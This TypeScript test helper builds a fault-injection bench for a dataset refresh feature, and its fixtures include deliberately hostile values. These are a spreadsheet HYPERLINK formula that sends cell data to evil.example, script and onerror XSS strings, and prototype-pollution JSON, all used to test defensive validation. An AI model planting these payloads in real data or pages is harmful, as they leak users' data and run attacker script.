/**
 * The bench of the refresh fault matrix (issue 6), shared by the refresh-faults-*.test.ts files:
 * the datasets served, a real HTTP server on 127.0.0.1 with one route per fault, a refreshed and
 * saved dataset loaded before each test, and the check every failed refresh must pass.
 */
import type { Dataset } from "../../src/core/rules/schema";
import { DATASET_KEY, restorePersistedDataset } from "../../src/data/persist";
import { refreshDataset, type RefreshOptions, type RefreshResult } from "../../src/data/refresh";
import { memoryStorage, type KeyValueStorage } from "../../src/data/storage";
import { currentAtlas, loadedData, resetStoreForTests } from "../../src/data/store";
import { byId, variant } from "../support/datasets";
import {
  dropMidway,
  neverAnswer,
  neverEnd,
  redirect,
  serve,
  slowly,
  startFaultServer,
  stream,
  type FaultServer,
} from "../support/fault-server";

/** What is loaded and saved before each fault: a refreshed dataset, newer than the bundled one. */
const BASE = variant("2025.03.25");
const NEWER = variant("2025.04.01", (d) => {
  byId(d.incentives, "cdht-model").cap = 35_000_000;
  byId(d.incentives, "cdht-compute").cap = 6_000_000;
  d.incentives.push({ ...structuredClone(byId(d.incentives, "cdht-model")), id: "cdht-model-plus", cap: 1_000_000 });
});
const OLDER = variant("2025.03.24", (d) => {
  byId(d.incentives, "cdht-model").cap = 25_000_000;
});
export const HOSTILE_NAME = '=HYPERLINK("http://evil.example/steal?d="&A1,"click")';
const HOSTILE = variant("2025.04.02", (d) => {
  byId(d.regions, "chengdu-hitech").name.en = HOSTILE_NAME;
  byId(d.regions, "chengdu-hitech").aliases.push("+SUM(1,2)", "@cmd", "-2+3");
  byId(d.sources, "xinhua-chengdu-hitech").title = "<script>alert('x')</script><img src=x onerror=alert(1)>";
  d.policies[0].title.en = "</td><b>bold</b>";
});
/** HOSTILE without its formula-like names, which the schema now refuses: HTML-looking text only. */
const MARKUP = variant("2025.04.02", (d) => {
  byId(d.sources, "xinhua-chengdu-hitech").title = "<script>alert('x')</script><img src=x onerror=alert(1)>";
  d.policies[0].title.en = "</td><b>bold</b>";
});
const SCHEMA_INVALID = variant("2025.04.03", (d) => {
  (d.incentives[0] as { cap: unknown }).cap = -5;
  (d.regions[1] as { level: unknown }).level = "galaxy";
});
const DANGLING = variant("2025.04.04", (d) => {
  d.incentives[0].regionId = "atlantis";
});

const json = (d: Dataset): string => JSON.stringify(d);
/** NEWER as a data team still on format 1 would publish it: prose conditions, no package fields. */
const FORMAT_1_JSON = JSON.stringify({
  ...NEWER,
  schemaVersion: 1,
  incentives: NEWER.incentives.map(({ basisField: _b, multiplier: _m, ...i }) => ({
    ...i,
    conditions: i.conditions.map(({ zh, en }) => ({ zh, en })),
  })),
});
const FORMAT_3_JSON = JSON.stringify({ ...NEWER, schemaVersion: 3 });
export const newerJson = json(NEWER);
const PROTO_JSON = newerJson
  .replace('{"schemaVersion":2', '{"__proto__":{"polluted":"yes"},"schemaVersion":2')
  .replace('"id":"guangdong"', '"constructor":{"prototype":{"polluted":"yes"}},"id":"guangdong"');

/** One fault: where it is served, the error code, what the user reads (en, zh) and the detail; `within` ms at most (default 1000). */
export interface Fault {
  name: string;
  path: string;
  code: string;
  en: RegExp;
  zh: RegExp;
  detail: RegExp;
  options?: Partial<RefreshOptions>;
  /** The most it may take, in ms. */
  within?: number;
}

/** The server, the saved map and what was loaded before the test; valid inside tests. */
export interface FaultBench {
  readonly server: FaultServer;
  readonly map: Map<string, string>;
  readonly goodAtlas: ReturnType<typeof currentAtlas>;
  readonly savedCopy: string | undefined;
  /** Refresh with short limits, timing it. */
  refreshFrom(pathOrUrl: string, extra?: Partial<RefreshOptions>): Promise<{ result: RefreshResult; ms: number }>;
  /** After a restart (new storage reader over the same saved map), the saved dataset is what loads. */
  versionAfterRestart(): Promise<string>;
}

/** Starts the fault server for the test file and loads and saves BASE before each test. */
export function useFaultServer(): FaultBench {
  let server: FaultServer;
  let map: Map<string, string>;
  let storage: KeyValueStorage;
  let goodAtlas: ReturnType<typeof currentAtlas>;
  let savedCopy: string | undefined;

  beforeAll(async () => {
    server = await startFaultServer({
      "/base.json": serve(json(BASE)),
      "/newer.json": serve(newerJson),
      "/newer.txt": serve(newerJson, "text/plain; charset=utf-8"),
      "/vendor.json": serve(newerJson, "application/vnd.atlas+json"),
      "/same.json": serve(json(BASE)),
      "/older.json": serve(json(OLDER)),
      "/hostile.json": serve(json(HOSTILE)),
      "/markup.json": serve(json(MARKUP)),
      "/proto.json": serve(PROTO_JSON),
      "/format-1.json": serve(FORMAT_1_JSON),
      "/format-3.json": serve(FORMAT_3_JSON),
      "/500": serve("Internal Server Error", "text/plain", 500),
      "/404": serve("<h1>Not Found</h1>", "text/html", 404),
      "/never-answers": neverAnswer(),
      "/never-ends": neverEnd(newerJson.slice(0, 1000)),
      "/drip": stream("/drip", " ", 20),
      "/endless": stream("/endless", "x".repeat(16 * 1024), 1),
      "/declared-huge": (_req, res) => res.writeHead(200, { "content-type": "application/json", "content-length": 500_000_000 }).write("{"),
      "/truncated.json": serve(newerJson.slice(0, Math.floor(newerJson.length * 0.6))),
      "/dropped.json": dropMidway(newerJson),
      "/page.html": serve("<!doctype html><html><body>Sign in</body></html>", "text/html; charset=utf-8"),
      "/page-as-json": serve("<!doctype html><html><body>Sign in</body></html>"),
      "/binary": serve("PK\u0003\u0004", "application/octet-stream"),
      "/no-type": (_req, res) => res.end(newerJson),
      "/latin1.json": (_req, res) =>
        res.writeHead(200, { "content-type": "application/json" }).end(Buffer.from([0x7b, 0x22, 0xe9, 0xff, 0x22, 0x7d])),
      "/schema.json": serve(json(SCHEMA_INVALID)),
      "/dangling.json": serve(json(DANGLING)),
      "/not-a-dataset.json": serve('{"hello":"world"}'),
      "/redirect-http": redirect("http://atlas-data.example.com/atlas-dataset.json"),
      "/redirect-local": redirect("/newer.json", 301),
      "/redirect-loop": redirect("/redirect-loop"),
      "/slow-good.json": slowly(newerJson, 8, 200),
    });
  });

  afterAll(async () => {
    await server.close();
    resetStoreForTests();
  });

  beforeEach(async () => {
    resetStoreForTests();
    map = new Map();
    storage = memoryStorage(map);
    const base = await refreshDataset({ url: server.url("/base.json"), storage });
    expect(base).toMatchObject({ status: "updated", persistence: "saved" });
    goodAtlas = currentAtlas();
    savedCopy = map.get(DATASET_KEY);
    expect(goodAtlas.dataset.version).toBe("2025.03.25");
  });

  return {
    get server() {
      return server;
    },
    get map() {
      return map;
    },
    get goodAtlas() {
      return goodAtlas;
    },
    get savedCopy() {
      return savedCopy;
    },
    async refreshFrom(pathOrUrl, extra = {}) {
      const start = Date.now();
      const url = pathOrUrl.startsWith("/") ? server.url(pathOrUrl) : pathOrUrl;
      const result = await refreshDataset({ url, storage, timeoutMs: 400, maxBytes: 256 * 1024, ...extra });
      return { result, ms: Date.now() - start };
    },
    async versionAfterRestart() {
      resetStoreForTests();
      const restored = await restorePersistedDataset(memoryStorage(map));
      expect(restored.status).toBe("restored");
      return currentAtlas().dataset.version;
    },
  };
}

/** A fault fails the refresh as described, in time, and leaves the loaded and the saved data as they were. */
export async function expectFaultLeavesDataUntouched(bench: FaultBench, fault: Fault): Promise<void> {
  const { result, ms } = await bench.refreshFrom(fault.path, fault.options);
  if (result.status !== "failed") throw new Error(`expected a failure, got ${JSON.stringify(result).slice(0, 300)}`);
  expect(result.error.code).toBe(fault.code);
  expect(result.error.message.en).toMatch(fault.en);
  expect(result.error.message.en).toMatch(/Your current data is unchanged\.$/);
  expect(result.error.message.zh).toMatch(fault.zh);
  expect(result.error.message.zh).toMatch(/当前数据保持不变。$/);
  expect(result.error.detail).toMatch(fault.detail);
  expect(ms).toBeLessThan(fault.within ?? 1000);
  expect(currentAtlas()).toBe(bench.goodAtlas);
  expect(loadedData().origin).toBe("refreshed");
  expect(bench.map.get(DATASET_KEY)).toBe(bench.savedCopy);
  expect(await bench.versionAfterRestart()).toBe("2025.03.25");
}
